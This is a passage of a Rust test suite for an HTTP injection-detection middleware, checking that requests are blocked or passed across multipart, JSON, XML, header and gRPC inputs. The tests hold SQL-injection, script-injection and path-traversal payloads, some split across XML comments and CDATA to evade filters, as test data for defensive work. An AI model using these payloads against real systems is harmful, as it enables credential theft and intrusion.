    png.extend_from_slice(b"\0\0\0\0IEND\xaeB`\x82");
    png
}

#[tokio::test]
async fn binary_parts_are_recognised_by_their_bytes_not_their_type() {
    let layer = InjectionLayer::builder().build().unwrap();
    // Binary bytes declared as text are not read as text.
    let body = multipart(&[(
        "file",
        Some("a.txt"),
        "text/plain",
        &png_with(b"<script>alert(1)</script>"),
    )]);
    let (res, events, seen) = send(&layer, multipart_post(body.clone())).await;
    assert_eq!(res.status(), StatusCode::OK, "{events:?}");
    assert_eq!(seen.data, body);
    // Text declared as binary is.
    let body = multipart(&[(
        "file",
        Some("a.png"),
        "application/octet-stream",
        b"<script>alert(1)</script>",
    )]);
    assert_eq!(
        send(&layer, multipart_post(body)).await.0.status(),
        StatusCode::FORBIDDEN
    );
}

#[tokio::test]
async fn a_multipart_part_crossing_the_limit_is_inspected_up_to_it() {
    let layer = InjectionLayer::builder().body_limit(512).build().unwrap();
    let mut note = b"1' UNION SELECT password FROM users-- ".to_vec();
    note.extend(std::iter::repeat_n(b'a', 2000));
    let body = multipart(&[
        ("title", None, "text/plain", b"hello"),
        ("note", None, "text/plain", &note),
    ]);
    let (res, events, _) = send(&layer, multipart_post(body)).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "{events:?}");
    assert!(injection_events(&events)
        .iter()
        .any(|(_, l, _)| l == "multipart:note"));
}

#[tokio::test]
async fn json_nested_beyond_the_depth_bound_is_still_inspected() {
    let layer = InjectionLayer::builder().build().unwrap();
    let depth = 40;
    let deep = format!(
        "{}\"1' UNION SELECT password FROM users--\"{}",
        "{\"a\":".repeat(depth),
        "}".repeat(depth)
    );
    let req = Request::post("/api")
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from(deep)))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "{events:?}");
}

#[tokio::test]
async fn a_grpc_content_type_does_not_skip_the_body_off_grpc_routes() {
    let layer = InjectionLayer::builder().build().unwrap();
    let mut frame = vec![0u8, 0, 0, 0, 40];
    frame.extend_from_slice(b"\x0a\x26' UNION SELECT password FROM users--");
    let req = Request::post("/api/login")
        .header("content-type", "application/grpc")
        .body(Full::new(Bytes::from(frame)))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert!(!seen.reached, "{events:?}");
    // The caller speaks gRPC, so it is answered in gRPC.
    assert_eq!(res.headers()["grpc-status"], "7");
}

#[tokio::test]
async fn xml_text_is_joined_across_cdata_and_comments() {
    let layer = InjectionLayer::builder().build().unwrap();
    for doc in [
        "<q>1' UNI<!-- x -->ON SEL<!-- -->ECT password FR<!---->OM users--</q>",
        "<c><![CDATA[<scr]]><![CDATA[ipt>document.loc]]><![CDATA[ation=1</scr]]><![CDATA[ipt>]]></c>",
        "<c>1' UNI<![CDATA[ON SEL]]>ECT password FROM users--</c>",
    ] {
        let req = Request::post("/soap")
            .header("content-type", "application/xml")
            .body(Full::new(Bytes::from(doc)))
            .unwrap();
        let (res, events, _) = send(&layer, req).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{doc}: {events:?}");
    }
}

#[tokio::test]
async fn fixed_grammar_headers_are_parsed_and_their_free_text_inspected() {
    let layer = InjectionLayer::builder().build().unwrap();
    for (name, value) in [
        (
            "accept-language",
            "en-US,en;q=0.9,' UNION SELECT password FROM users--",
        ),
        (
            "accept",
            "text/html;level=\"<script>alert(1)</script>\",*/*;q=0.8",
        ),
        ("cache-control", "no-cache, x=\"<script>alert(1)</script>\""),
        (
            "if-none-match",
            "\"abc\", W/\"1' UNION SELECT password FROM users--\"",
        ),
        (
            "sec-ch-ua",
            "\"Chromium\";v=\"124\", \"<script>alert(1)</script>\";v=\"1\"",
        ),
        ("pragma", "no-cache, ../../../../etc/passwd"),
        ("if-modified-since", "1' UNION SELECT password FROM users--"),
    ] {
        let req = Request::get("/")
            .header(name, value)
            .body(full(""))
            .unwrap();
        let (res, events, _) = send(&layer, req).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{name}: {value}");
        assert!(
            injection_events(&events)
                .iter()
                .any(|(_, l, _)| *l == format!("header:{name}")),
            "{events:?}"
        );
    }
}

#[tokio::test]
async fn browser_headers_pass_without_findings() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/products?page=2")
        .header("host", "shop.example.com:8443")
        .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8")
        .header("accept-language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7")
        .header("accept-encoding", "gzip, deflate, br, zstd")
        .header("cache-control", "max-age=0, no-cache, private=\"set-cookie\"")
        .header("pragma", "no-cache")
        .header("if-none-match", "W/\"5e15153d-120f\", \"xyzzy\"")
        .header("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT")
        .header("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"")
        .header("sec-ch-ua-full-version-list", "\"Not;A=Brand\";v=\"99.0.0.0\", \"Chromium\";v=\"124.0.6367.60\"")
        .header("sec-ch-ua-mobile", "?0")
        .header("sec-ch-ua-platform", "\"Windows\"")
        .header("upgrade-insecure-requests", "1")
        .header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")
        .body(full(""))
        .unwrap();
    let (res, events, _) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(events.is_none(), "{events:?}");
}

#[tokio::test]
async fn the_host_header_is_inspected_unless_it_is_a_host() {
    let layer = InjectionLayer::builder().build().unwrap();
    let req = Request::get("/")
        .header("host", "x' UNION SELECT password FROM users--")
        .body(full(""))
        .unwrap();
    assert_eq!(send(&layer, req).await.0.status(), StatusCode::FORBIDDEN);
    for host in [
        "example.com",
        "[::1]:8080",
        "10.0.0.1:443",
        "xn--bcher-kva.example.",
    ] {
        let req = Request::get("/")
            .header("host", host)
            .body(full(""))
            .unwrap();
        let (res, events, _) = send(&layer, req).await;
        assert_eq!(res.status(), StatusCode::OK, "{host}");
        assert!(events.is_none());
    }
}

/// A body fed by hand: frames sent on the returned sender, the end when it is dropped.
type ChanBody = StreamBody<std::pin::Pin<Box<dyn futures_util::Stream<Item = FrameResult> + Send>>>;

fn channel_body() -> (tokio::sync::mpsc::UnboundedSender<FrameResult>, ChanBody) {
    let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
    let stream = futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|frame| (frame, rx))
    });
    (tx, StreamBody::new(Box::pin(stream)))
}

#[tokio::test(start_paused = true)]
async fn a_slow_body_is_refused_after_the_body_timeout() {
    let layer = InjectionLayer::builder().build().unwrap();
    let (tx, body) = channel_body();
    tx.send(Ok(Frame::data(Bytes::from_static(b"comment=hel"))))
        .unwrap();
    let req = Request::post("/comments")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .unwrap();
    // Paused time: the runtime jumps to the next timer while every task waits.
    let started = tokio::time::Instant::now();
    let (res, _, seen) = tokio::time::timeout(Duration::from_secs(3600), send(&layer, req))
        .await
        .expect("a stalled body is refused, not waited on forever");
    assert_eq!(res.status(), StatusCode::REQUEST_TIMEOUT);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert!(!seen.reached);
    assert!(started.elapsed() >= Duration::from_secs(30));
    assert!(started.elapsed() < Duration::from_secs(31));
    drop(tx);
}

#[tokio::test]
async fn grpc_routes_skip_the_body_only_where_declared() {
    let layer = InjectionLayer::builder()
        .grpc_routes(["/pkg.Svc/"])
        .build()
        .unwrap();
    let mut frame = vec![0u8, 0, 0, 0, 40];
    frame.extend_from_slice(b"\x0a\x26' UNION SELECT password FROM users--");
    let call = |path: &str, user: &str| {
        Request::post(path)
            .header("content-type", "application/grpc+proto")
            .header("x-user", user)
            .body(Full::new(Bytes::from(frame.clone())))
            .unwrap()
    };
    // A declared gRPC route: protobuf bodies are not buffered...
    let (res, _, seen) = send(&layer, call("/pkg.Svc/Get", "ann")).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert!(res.headers().get("grpc-status").is_none());
    assert!(seen.reached && !seen.buffered);
    assert_eq!(seen.data, frame);
    // ...but metadata still is.
    let (res, _, seen) = send(&layer, call("/pkg.Svc/Get", "admin' OR 1=1 --")).await;
    assert_eq!(res.headers()["grpc-status"], "7");
    assert!(!seen.reached);
    // Another route claiming gRPC has its body inspected.
    let (res, _, seen) = send(&layer, call("/other.Svc/Get", "ann")).await;
    assert_eq!(res.headers()["grpc-status"], "7");
    assert!(!seen.reached);
}

#[tokio::test(start_paused = true)]
async fn a_slow_grpc_body_gets_deadline_exceeded_after_the_configured_timeout() {
    let layer = InjectionLayer::builder()
        .body_timeout(Duration::from_secs(5))
        .build()
        .unwrap();
    let (tx, body) = channel_body();
    tx.send(Ok(Frame::data(Bytes::from_static(b"\0\0\0\0\x10"))))
        .unwrap();
    let req = Request::post("/pkg.Svc/Upload")
        .header("content-type", "application/grpc")
        .body(body)
        .unwrap();
    let started = tokio::time::Instant::now();
    let (res, _, seen) = send(&layer, req).await;
    assert_eq!(res.headers()["grpc-status"], "4");
    assert!(!seen.reached);
    assert!(started.elapsed() >= Duration::from_secs(5));
    assert!(started.elapsed() < Duration::from_secs(6));
    assert!(matches!(
        res.extensions().get::<InjectionRejection>(),
        Some(InjectionRejection::BodyTimeout { grpc: true, .. })
    ));
    drop(tx);
}

#[tokio::test]
async fn the_total_buffer_limit_bounds_concurrent_bodies() {
    let layer = InjectionLayer::builder()
        .body_limit(1024)
        .total_buffer_limit(4096)
        .oversized_body(OversizedBody::Reject)
        .build()
        .unwrap();
    let mut senders = Vec::new();
    let mut tasks = Vec::new();
    for _ in 0..8 {
        let (tx, body) = channel_body();
        tx.send(Ok(Frame::data(Bytes::from(vec![b'a'; 1000]))))
            .unwrap();
        senders.push(tx);
        let req = Request::post("/notes").body(body).unwrap();
        let layer = layer.clone();
        tasks.push(tokio::spawn(async move { send(&layer, req).await }));
    }
    // Four bodies of 1000 bytes fit in 4096; the others are refused while they wait.
    let mut done = 0;
    for _ in 0..10_000 {
        done = tasks.iter().filter(|t| t.is_finished()).count();
        if done >= 4 {
            break;
        }
        tokio::task::yield_now().await;
    }
    assert_eq!(done, 4);
    drop(senders);
    let mut statuses = Vec::new();
    for t in tasks {
        let (res, _, seen) = t.await.unwrap();
        if res.status() == StatusCode::OK {
            assert_eq!(seen.data.len(), 1000);
        } else {
            assert!(matches!(
                res.extensions().get::<InjectionRejection>(),
                Some(InjectionRejection::Overloaded { grpc: false, .. })
            ));
        }
        statuses.push(res.status().as_u16());
    }
    statuses.sort_unstable();
    assert_eq!(statuses, [200, 200, 200, 200, 503, 503, 503, 503]);
    // Every byte was given back: four more bodies fit again.
    for _ in 0..4 {
        let (tx, body) = channel_body();
        tx.send(Ok(Frame::data(Bytes::from(vec![b'a'; 1000]))))
            .unwrap();
        drop(tx);
        let req = Request::post("/notes").body(body).unwrap();
        assert_eq!(send(&layer, req).await.0.status(), StatusCode::OK);
    }
}

#[tokio::test]
async fn past_the_total_buffer_limit_the_prefix_policy_inspects_what_was_read() {
    let layer = InjectionLayer::builder()
        .body_limit(1024)
        .total_buffer_limit(1024)
        .build()
        .unwrap();
    let (hold_tx, hold) = channel_body();
    hold_tx
        .send(Ok(Frame::data(Bytes::from(vec![b'a'; 1000]))))
        .unwrap();
    let held = {
        let layer = layer.clone();
        let req = Request::post("/notes").body(hold).unwrap();
        tokio::spawn(async move { send(&layer, req).await })
    };
    tokio::task::yield_now().await;
    let req = Request::post("/notes")
        .body(full("q=<script>alert(1)</script>"))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    // What was read is still inspected.
    assert_eq!(res.status(), StatusCode::FORBIDDEN, "{events:?}");
    assert!(!seen.reached);
    // 24 bytes are left; this body is longer.
    let req = Request::post("/notes")
        .body(full("q=hello+there+a+longer+note"))
        .unwrap();
    let (res, events, seen) = send(&layer, req).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(seen.data, b"q=hello+there+a+longer+note");
    assert!(events.iter().flat_map(|e| e.iter()).any(|e| matches!(
        e,
        SecurityEvent::InjectionDetected {
            rule: "protocol.buffer_budget_exhausted",
            ..
        }
    )));
    drop(hold_tx);
    assert_eq!(held.await.unwrap().0.status(), StatusCode::OK);
}

#[test]
fn the_new_limits_are_validated() {
    for (builder, setting) in [
        (
            InjectionLayer::builder().grpc_routes(["pkg.Svc/"]),
            "injection.grpc_routes",
        ),
        (
            InjectionLayer::builder()
                .body_limit(4096)
                .total_buffer_limit(1024),
            "injection.total_buffer_limit",
        ),
        (
            InjectionLayer::builder().body_timeout(Duration::ZERO),
            "injection.body_timeout",
        ),
    ] {
        assert_eq!(builder.build().unwrap_err().setting(), setting);
    }
}
